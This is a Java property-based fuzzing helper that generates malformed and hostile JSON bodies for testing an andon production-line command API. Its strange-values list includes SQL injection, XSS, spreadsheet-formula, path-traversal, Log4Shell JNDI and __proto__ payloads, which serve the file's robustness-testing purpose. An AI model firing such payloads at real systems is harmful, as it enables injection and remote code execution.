package org.andon.command;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Generators of what a hostile or broken sender puts in a command body: valid commands of every type with fields
 * dropped, given the wrong JSON type, huge or negative numbers, unicode of every plane, nested JSON, overlong text,
 * unknown fields and types; and bodies that are not JSON objects at all.
 */
public final class HostileCommands {

	private HostileCommands() {
	}

	/** Valid commands of each type, as field name to raw JSON value. */
	private static final List<Map<String, String>> VALID = List.of(
			fields("type", "RECEIVE", "stationId", "FRAME", "partSerial", "FZ-1"),
			fields("type", "PASS", "stationId", "FRAME", "partSerial", "FZ-1"),
			fields("type", "ACCEPT", "stationId", "WELD", "partSerial", "FZ-1"),
			fields("type", "REJECT", "stationId", "WELD", "partSerial", "FZ-1", "defectCode", "SCRATCH"),
			fields("type", "REPORT_DEFECT", "stationId", "FRAME", "partSerial", "FZ-1", "defectCode", "SCRATCH"),
			fields("type", "CLEAR_DEFECT", "stationId", "FRAME", "partSerial", "FZ-1", "resolution", "REWORKED"),
			fields("type", "STOP", "stationId", "FRAME", "reason", "QUALITY", "note", "fuzz"),
			fields("type", "RESUME", "stopId", null),
			fields("type", "CALL", "stationId", "FRAME", "callType", "maintenance"),
			fields("type", "CONTAIN", "incidentId", null),
			fields("type", "CALL_TO_STOP", "incidentId", null),
			fields("type", "ACKNOWLEDGE", "incidentId", null),
			fields("type", "RESOLVE", "incidentId", null, "cause", "c", "countermeasure", "m"));

	private static Map<String, String> fields(String... kv) {
		Map<String, String> m = new LinkedHashMap<>();
		for (int i = 0; i < kv.length; i += 2) {
			m.put(kv[i], kv[i + 1] == null ? "1" : quote(kv[i + 1]));
		}
		return m;
	}

	/** A JSON string literal of any text, escaped as JSON requires (lone surrogates included, as \\u escapes). */
	static String quote(String s) {
		StringBuilder b = new StringBuilder("\"");
		for (char c : s.toCharArray()) {
			if (c == '"' || c == '\\') {
				b.append('\\').append(c);
			}
			else if (c < 0x20 || Character.isSurrogate(c)) {
				b.append(String.format("\\u%04x", (int) c));
			}
			else {
				b.append(c);
			}
		}
		return b.append('"').toString();
	}

	/** Raw JSON values of the wrong type, out of range, strange text, or deeply nested. */
	static Arbitrary<String> strangeValues() {
		return Arbitraries.oneOf(
				Arbitraries.of("null", "true", "false", "0", "-1", "1e308", "-1e308", "1e999", "123456789012345678901234567890",
						"-9223372036854775809", "9223372036854775808", "0.5", "-0", "\"\"", "\"   \"", "[]", "{}",
						"\"\\u0000\"", "\"\\ud800\"", "\"\\u202eTSOP\"", "\"FRAME\\u200b\"", "\"🏭🚨\"", "\"ＦＲＡＭＥ\"",
						"\"frame\"", "\"RECEIVE \"", "\"' OR 1=1 --\"", "\"<script>alert(1)</script>\"",
						"\"=HYPERLINK(\\\"x\\\")\"", "\"../../etc/passwd\"", "\"${jndi:ldap://x/a}\""),
				Arbitraries.strings().all().ofMaxLength(40).map(HostileCommands::quote),
				Arbitraries.strings().withCharRange('a', 'z').ofMinLength(500).ofMaxLength(9000).map(HostileCommands::quote),
				Arbitraries.longs().map(Object::toString),
				Arbitraries.bigIntegers().between(java.math.BigInteger.TEN.pow(19), java.math.BigInteger.TEN.pow(60))
					.map(Object::toString),
				Arbitraries.doubles().map(d -> Double.isFinite(d) ? Double.toString(d) : "1e400"),
				Arbitraries.integers().between(1, 3000).map(HostileCommands::nested),
				Arbitraries.strings().all().ofMaxLength(10).list().ofMaxSize(5)
					.map(l -> "[" + String.join(",", l.stream().map(HostileCommands::quote).toList()) + "]"));
	}

	/** An object or array nested {@code depth} deep. */
	static String nested(int depth) {
		boolean array = depth % 2 == 0;
		return (array ? "[" : "{\"a\":").repeat(depth) + "1" + (array ? "]" : "}").repeat(depth);
	}

	/** One mutation of a field map: a field dropped, replaced by a strange value, or a strange field added. */
	private record Mutation(int kind, int field, String value, String name) {
	}

	/** Valid commands with one to four mutations: what a broken or hostile sender writes. */
	public static Arbitrary<String> mutatedCommands() {
		Arbitrary<Mutation> mutation = Combinators.combine(Arbitraries.integers().between(0, 3),
				Arbitraries.integers().between(0, 10), strangeValues(),
				Arbitraries.oneOf(Arbitraries.of("commandId", "type", "stationId", "partSerial", "reason", "stopId",
						"incidentId", "note", "to", "originStationId", "callType", "__proto__", ""),
						Arbitraries.strings().all().ofMaxLength(12)))
			.as(Mutation::new);
		return Combinators.combine(Arbitraries.of(VALID), mutation.list().ofMinSize(1).ofMaxSize(4),
				Arbitraries.of(true, false)).as((base, mutations, withId) -> {
					Map<String, String> body = new LinkedHashMap<>();
					if (withId) {
						body.put("commandId", quote(UUID.randomUUID().toString()));
					}
					body.putAll(base);
					for (Mutation m : mutations) {
						List<String> names = new ArrayList<>(body.keySet());
						String target = names.isEmpty() ? m.name() : names.get(m.field() % names.size());
						switch (m.kind()) {
							case 0 -> body.remove(target);
							case 1, 2 -> body.put(target, m.value());
							default -> body.put(m.name(), m.value());
						}
					}
					StringBuilder json = new StringBuilder("{");
					body.forEach((k, v) -> json.append(json.length() > 1 ? "," : "").append(quote(k)).append(':')
						.append(v));
					return json.append('}').toString();
				});
	}

	/** Bodies that are not a JSON object: random bytes, truncated or repeated JSON, other JSON values, nesting. */
	public static Arbitrary<byte[]> garbage() {
		return Arbitraries.oneOf(Arbitraries.bytes().array(byte[].class).ofMaxSize(3000),
				mutatedCommands().map(s -> s.substring(0, s.length() / 2)).map(HostileCommands::utf8),
				mutatedCommands().map(s -> s + s).map(HostileCommands::utf8),
				strangeValues().map(HostileCommands::utf8),
				Arbitraries.integers().between(400, 20_000).map(d -> utf8(nested(d))),
				Arbitraries.strings().all().ofMaxLength(200).map(HostileCommands::utf8));
	}

	static byte[] utf8(String s) {
		return s.getBytes(java.nio.charset.StandardCharsets.UTF_8);
	}
}
